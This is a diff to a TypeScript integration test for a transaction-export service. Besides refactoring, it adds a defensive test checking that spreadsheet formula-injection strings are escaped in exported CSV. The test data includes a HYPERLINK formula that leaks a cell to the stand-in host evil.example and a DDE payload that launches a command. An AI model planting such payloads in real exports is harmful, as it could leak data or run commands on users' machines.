@@ -21,6 +21,7 @@ import { createTenant } from '../../../shared/usecases/tenants/create-tenant.js'
 import { EXPORT_COLUMNS } from '../../../shared/usecases/transactions/export-format.js';
 import type { ExportsPorts } from '../../../shared/usecases/transactions/export-ports.js';
 import type { TransactionRecord } from '../../../shared/usecases/transactions/ports.js';
+import { presentTransaction } from '../../../shared/usecases/transactions/present.js';
 import { parseCsv } from '../../support/csv.js';
 import { startTestTable, type TestTable } from '../../support/dynamodb.js';
 import { aTransaction, InMemoryTransactionHistory } from '../../support/fakes/transactions.js';
@@ -45,6 +46,8 @@ let worker: SqsWorkerHandler;
 /** The S3 operations the export files sent, by command name. */
 const commands: string[] = [];
 const records: TransactionRecord[] = [];
+let history: InMemoryTransactionHistory;
+let api: ReturnType<typeof createApi>;
 
 beforeAll(async () => {
   table = await startTestTable();
@@ -54,7 +57,7 @@ beforeAll(async () => {
   a = await tenantWithToken('Exports A');
   b = await tenantWithToken('Exports B');
 
-  const history = new InMemoryTransactionHistory();
+  history = new InMemoryTransactionHistory();
   for (let i = 1; i <= ROWS; i++) {
     records.push(
       aTransaction(i, {
@@ -80,9 +83,9 @@ beforeAll(async () => {
     { step: 'initialize', name: 'recordCommands' },
   );
   const deps: ExportsPorts = { ...exportsRuntime(), history, files: s3ExportFiles({ client, bucket: LOCAL_EXPORT_BUCKET }) };
-  const handler = createApi(exportRoutes, deps);
-  call = caller(handler, () => a.bearer);
-  callB = caller(handler, () => b.bearer);
+  api = createApi(exportRoutes, deps);
+  call = caller(api, () => a.bearer);
+  callB = caller(api, () => b.bearer);
   // The worker's module wires the real runtime when imported: after the environment is set.
   const { exportWorker } = await import('../../../functions/transaction-exports/handler.js');
   worker = exportWorker(deps);
@@ -149,7 +152,9 @@ describe('an export of a few thousand transactions', () => {
       expect(seen.has(id)).toBe(false);
       seen.add(id);
       const record = byId.get(id);
-      expect(row).toEqual(EXPORT_COLUMNS.map((c) => record?.[c] ?? ''));
+      // As the list shows it: amounts spelled as the movement's own record spells them, never rounded.
+      const shown = record ? presentTransaction(record) : undefined;
+      expect(row).toEqual(EXPORT_COLUMNS.map((c) => shown?.[c] ?? ''));
     }
     expect(seen.size).toBe(ROWS);
     // Newest first.
@@ -174,7 +179,27 @@ describe('an export of a few thousand transactions', () => {
     const download = await fetch(got.body.download_url);
     expect(download.headers.get('content-type')).toMatch(/^application\/json/);
     const parsed = (await download.json()) as Record<string, unknown>[];
-    expect(parsed).toEqual(expected.map((r) => Object.fromEntries(EXPORT_COLUMNS.map((c) => [c, r[c]]))));
+    expect(parsed).toEqual(expected.map((r) => Object.fromEntries(EXPORT_COLUMNS.map((c) => [c, presentTransaction(r)[c]]))));
+  });
+});
+
+describe('an export opened in a spreadsheet', () => {
+  it('holds no formula: text cells beginning with =, +, -, @, tab or CR are written with a single quote in front', async () => {
+    const attacks = ['=HYPERLINK("https://evil.example/?leak="&A1,"Open")', '-1+1', "+cmd|' /C calc'!A0", '@SUM(A1:A9)', '\t=1+2', '\r=1+2'];
+    const d = await tenantWithToken('Exports D');
+    const callD = caller(api, () => d.bearer);
+    history.put(d.tenantId, ...attacks.map((text, i) => aTransaction(i, { order_id: text, custom_id: text, subtype: text, amount: '5', fee: '0.1' })));
+    const requested = await callD('POST', '/transactions/export/', { body: {} });
+    expect(requested.status).toBe(202);
+    await deliver(requested.body.export_id);
+    const got = await callD('GET', `/transactions/export/${requested.body.export_id}/`);
+    expect(got.body).toMatchObject({ status: 'completed', rows: attacks.length });
+    const [, ...rows] = parseCsv(await (await fetch(got.body.download_url)).text());
+    // Newest first: the last attack first.
+    const expected = [...attacks].reverse().map((text) => [`'${text}`, `'${text}`, `'${text}`, '5.000000', '0.100000']);
+    expect(rows.map((r) => ['order_id', 'custom_id', 'subtype', 'amount', 'fee'].map((c) => r[column(c as (typeof EXPORT_COLUMNS)[number])]))).toEqual(
+      expected,
+    );
   });
 });
 
@@ -197,7 +222,7 @@ describe('the deployed wiring', () => {
     // Newest first; adjustments made within one millisecond may come in either order, so compared as a set.
     expect(rows.map((r) => [r[column('type')], r[column('amount')], r[column('currency')]].join(' ')).sort()).toEqual([
       'adjustment 0.000001 USDTERC20',
-      'adjustment 12.5 USDTERC20',
+      'adjustment 12.500000 USDTERC20',
       'adjustment 99999999.123456 USDTERC20',
     ]);
   });
